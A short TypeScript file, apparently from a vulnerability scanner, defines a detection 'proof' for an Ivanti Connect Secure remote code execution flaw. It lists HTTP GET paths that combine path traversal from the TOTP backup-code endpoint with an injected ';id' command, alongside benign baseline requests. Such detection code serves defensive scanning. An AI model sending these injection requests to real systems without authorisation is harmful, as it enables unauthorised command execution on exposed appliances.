import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'ivanti-connect-rce',
    [
      get('/api/v1/totp/user-backup-code/../../license/keys-status/%3bid%3b'),
      get('/api/v1/license/keys-status/;id'),
    ],
    [get('/api/v1/totp/user-backup-code/'), get('/api/v1/license/keys-status/')],
  ),
]
